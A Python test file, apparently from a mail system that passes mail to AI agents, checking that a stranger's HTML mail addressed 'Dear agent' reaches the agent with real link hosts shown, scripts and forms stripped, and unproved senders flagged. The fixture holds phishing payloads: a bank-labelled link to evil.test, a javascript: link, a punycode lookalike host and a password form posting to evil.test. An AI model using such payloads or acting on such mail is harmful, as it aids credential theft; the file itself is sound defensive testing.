"""T81: what a stranger wrote reaches agents as text first, says whether its author is proved, and shows where its links lead."""

from __future__ import annotations

from email import message_from_bytes, policy
from email.message import EmailMessage

from tests.threat.wire import Wire, mail

HTML = (
    b'<p>Dear agent, <a href="https://evil.test/login">https://bank.test/login</a> or '
    b'<a href="javascript:alert(1)">here</a> or <a href="https://xn--bnk-ula.test/x">b\xc3\xa4nk</a>.</p>'
    b"<script>alert(2)</script><style>p{display:none}</style><form action='https://evil.test/f'><input name=password></form>"
)


def notice_of(wire: Wire, name: str, *, is_proved: bool) -> EmailMessage:
    """What the agent gets of the mail."""
    raw = mail(name, HTML, fields=b"Content-Type: text/html; charset=utf-8\r\n", is_proved=is_proved)
    wire.gives(raw, source="127.0.0.1")
    found = message_from_bytes(wire.letter("ana@desk.test", name).raw, policy=policy.default)
    assert isinstance(found, EmailMessage)
    return found


def test_a_link_shows_its_own_host(wire: Wire) -> None:
    """Where the label names another host than the target, the target's host stands beside it, in text and in HTML; what
    is no address of the web stays a word, and nothing runs or asks for input."""
    notice = notice_of(wire, "t81 links", is_proved=True)
    assert notice.get_content_type() == "multipart/alternative"
    first, second = list(notice.iter_parts())[:2]
    assert first.get_content_type() == "text/plain"
    text, page = first.get_content(), second.as_string()
    assert "evil.test" in text
    markup = notice.get_body(("html",))
    assert markup is not None
    page = markup.get_content()
    assert page.count("evil.test") > page.count('href="https://evil.test/login"')
    for hostile in ("javascript:", "<script", "alert(", "<form", "<input", "<style>p"):
        assert hostile not in page.lower(), hostile


def test_an_unproved_author_is_named_as_one(wire: Wire) -> None:
    """The notice says in words that nobody proved its author, before the author's own words; of a proved one it does not."""
    proved, unproved = (
        notice_of(wire, f"t81 banner {is_proved}", is_proved=is_proved).get_body(("plain",))
        for is_proved in (True, False)
    )
    assert proved is not None
    assert unproved is not None
    warned, plain = unproved.get_content(), proved.get_content()
    assert "not proved" in warned.partition("Dear agent")[0]
    assert "not proved" not in plain
